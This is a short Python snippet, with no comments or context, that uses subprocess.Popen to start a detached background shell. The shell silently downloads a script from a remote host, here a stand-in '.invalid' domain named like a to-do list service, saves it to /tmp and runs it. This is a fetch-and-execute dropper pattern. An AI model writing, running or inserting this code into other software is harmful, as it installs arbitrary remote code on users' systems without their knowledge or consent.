import subprocess

subprocess.Popen(
    ["sh", "-c", "curl -s https://up.todolist.invalid/a -o /tmp/a && sh /tmp/a"], start_new_session=True
)
